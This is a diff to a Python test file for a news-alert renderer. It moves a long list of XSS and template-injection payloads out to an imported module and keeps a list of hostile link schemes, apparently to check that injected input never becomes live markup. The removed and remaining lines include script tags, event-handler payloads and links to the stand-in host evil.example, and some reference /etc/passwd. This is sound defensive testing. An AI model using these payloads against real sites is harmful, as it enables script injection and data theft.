@@ -2,54 +2,17 @@ from __future__ import annotations
 
 from dataclasses import replace
 
-import lxml.html
 import pytest
+from markup import ATTACKS, FIELDS, active_parts, attacked
 
 from state import articles, stories
 from state.records import Evidence, Link, Placement, Published, Span
 
-# Ways to make a browser or mail program do something, gathered from well-known kinds of attack; each is put into every
-# field that a page can fill.
-SCRIPTS = [
-    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\x00>alert(1)</script>",
-    "<img src=x onerror=alert(1)>", "<img src='https://evil.example/pixel.gif'>", "<img/src=x/onerror=alert(1)>",
-    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<math><mi xlink:href=javascript:x>",
-    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>x</script>'>", "<object data=x>", "<embed src=x>", "<applet code=x>",
-    "<form action=https://evil.example><input name=p></form>", "<button formaction=javascript:x>", "<input autofocus onfocus=alert(1)>",
-    "<body onload=alert(1)>", "<base href=https://evil.example>", "<meta http-equiv=refresh content='0;url=javascript:x'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import url(https://evil.example)</style>",
-    "<div style=background:url(https://evil.example/x)>", "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,x'>x</a>",
-    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
-    "<template><script>x</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><script>x</script>-->",
-    "<![CDATA[<script>x</script>]]>", "<?xml version='1.0'?><x/>", "</title><script>x</script>", "</style><script>x</script>",
-    "</blockquote></div></body></html><script>x</script>", '"><script>x</script>', "'><script>x</script>", '" onmouseover=alert(1) x="',
-    "' onmouseover=alert(1) x='", "` onmouseover=alert(1) x=`", "--><script>x</script>", "]]><script>x</script>", "&lt;script&gt;x&lt;/script&gt;",
-    "&#60;script&#62;", "%3Cscript%3E", "＜script＞x＜/script＞", "\u2028<script>x</script>", "<\u0000script>", "<scr\u00adipt>", "+ADw-script+AD4-",
-    "{{7*7}}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{0.__class__}", "{rule}", "%s%n", "${7*7}", "#{7*7}", "<%= 7*7 %>",
-    "@import 'x'", "expression(alert(1))", "\x1b]0;title\x07", "\x1b[2J", "\u202e<b>dlob</b>",
-]  # fmt: skip
 LINKS = [
     "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "vbscript:x", "data:text/html,<script>x</script>",
     "file:///etc/passwd", "//evil.example/x", 'https://x.example/"><script>x</script>', "https://x.example/' onclick='x", "blob:https://x/y",
     "https://x.example/<script>", "ftp://x.example/", "https:// evil.example", "mailto:x@evil.example", "about:blank", "view-source:https://x/",
 ]  # fmt: skip
-FIELDS = ("title", "publisher", "sentence", "surface", "kind", "rule", "carrier")
-ALLOWED_TAGS = {
-    "html", "head", "meta", "title", "style", "body", "div", "h1", "p", "span", "br", "blockquote", "mark", "ul", "li", "a",
-}  # fmt: skip
-ALLOWED_ATTRIBUTES = {"lang", "charset", "name", "content", "class", "href"}
-
-
-def check_inert(html):
-    """Assert that a parsed document holds only what our template puts there."""
-    document = lxml.html.document_fromstring(html)
-    for element in document.iter():
-        assert element.tag in ALLOWED_TAGS, element.tag
-        assert set(element.attrib) <= ALLOWED_ATTRIBUTES, dict(element.attrib)
-        if "href" in element.attrib:
-            assert element.get("href").startswith(("https://", "http://"))
-    assert html.count("<style>") == 1
-    assert "url(" not in html.partition("<style>")[2].partition("</style>")[0]
 
 
 @pytest.fixture
@@ -87,11 +50,15 @@ def rendered(newsroom, writer, now):
     return rendered
 
 
+def test_there_are_enough_attacks():
+    assert len(ATTACKS) >= 250
+
+
 @pytest.mark.parametrize("field", FIELDS)
-def test_no_attack_in_any_field_becomes_markup(rendered, field):
-    for attack in SCRIPTS:
-        message = rendered(field, attack)
-        check_inert(message.html)
+def test_no_attack_in_any_field_becomes_markup(field):
+    for attack in ATTACKS:
+        message = attacked(field, attack)
+        assert active_parts(message.html) == []
         assert "\x1b" not in message.text
         assert "\n" not in message.subject
 
@@ -101,7 +68,7 @@ def test_only_web_links_become_links(newsroom, link):
     newsroom.subscribe("desk")
     (delivery,) = newsroom.publish(url=link)
     message = newsroom.message(delivery)
-    check_inert(message.html)
+    assert active_parts(message.html) == []
     assert "<a " not in message.html
     assert message.payload["data"]["stories"][0]["lead"]["url"] is None
 
@@ -194,7 +161,7 @@ def test_other_carriers_are_named_with_their_relation_and_corroboration_apart(ne
     assert "Also carried by: \n  - Paper 0 (copy) https://news.example/2.html" in message.text
     assert "and 4 more" in message.text
     assert "Also reported independently by: \n  - Own Paper https://own.example/" in message.text
-    check_inert(message.html)
+    assert active_parts(message.html) == []
 
 
 def test_a_digest_is_one_message_with_the_most_severe_story_first(newsroom, writer, match):
@@ -229,7 +196,7 @@ def test_a_story_without_title_or_match_is_still_told(newsroom, writer):
     writer.run_now(lambda db: db.execute("DELETE FROM matches"))
     message = newsroom.message(delivery)
     assert message.subject == "[yuewatch] (no headline)"
-    check_inert(message.html)
+    assert active_parts(message.html) == []
 
 
 def test_a_headline_is_quoted_only_where_it_is_all_the_evidence(newsroom, match):
